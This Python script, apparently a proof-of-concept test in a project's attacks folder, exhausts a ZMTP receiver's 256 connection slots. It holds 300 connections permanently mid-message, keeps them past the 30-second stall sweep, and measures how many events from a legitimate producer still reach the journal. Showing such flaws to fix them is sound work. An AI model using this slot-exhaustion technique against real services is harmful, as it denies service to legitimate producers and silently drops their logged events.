"""Any local user fills the ZMTP receiver's 256 connection slots with connections that are
always 'mid-message' (a MORE frame now and then), so idle producers are evicted and nobody
can (re)connect: their events never reach the journal.

Run as root or any user: .venv/bin/python attacks/zmtp_slots.py
"""
import socket, time
from common import start, raw, frame, stats, rejects, good_producer

sc, ep = start()
try:
    # A producer that connected before the attack, idle at the moment of the attack.
    cid0, got0 = good_producer(ep, 20, sc=sc)
    print("before attack: good producer journaled", got0, "/ 20")
    conns = []
    for i in range(300):
        s = raw(ep)
        s.sendall(frame(b"x", more=True))  # mid-message from now on
        conns.append(s)
    time.sleep(1)
    print("after 300 attacker connections:", stats(sc.pid), rejects(sc))
    t0 = time.monotonic()
    cid, got = good_producer(ep, 100, sc=sc, wait=15)
    print(f"during attack: good producer journaled {got} / 100 (waited {time.monotonic()-t0:.0f} s)")
    # keep-alive: one 2-byte MORE frame per connection every 10 s keeps them out of the 30 s stall sweep
    live = []
    for _ in range(4):  # 40 s: past STALL_SECONDS (30), the attacker's connections stay
        for s in conns:
            try:
                s.sendall(frame(b"", more=True)); live.append(s)
            except OSError:
                pass
        conns, live = live, []
        time.sleep(10)
    print("attacker connections alive after 40 s:", len(conns), "rejects:", rejects(sc))
    cid, got = good_producer(ep, 100, sc=sc, wait=10)
    print(f"40 s into the attack: good producer journaled {got} / 100")
    for s in conns:
        s.close()
    time.sleep(2)
    cid, got = good_producer(ep, 100, sc=sc, wait=20)
    print(f"after attack: good producer journaled {got} / 100")
finally:
    sc.stop()
